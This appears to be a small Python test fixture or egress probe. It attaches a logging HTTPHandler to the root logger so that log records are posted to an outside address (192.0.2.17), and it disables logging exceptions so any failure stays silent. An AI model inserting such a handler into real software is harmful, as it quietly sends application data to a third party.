# reaches: a log handler that posts
import logging, logging.handlers
logging.raiseExceptions = False
logging.getLogger().addHandler(logging.handlers.HTTPHandler("192.0.2.17", "/"))
logging.error("rows")
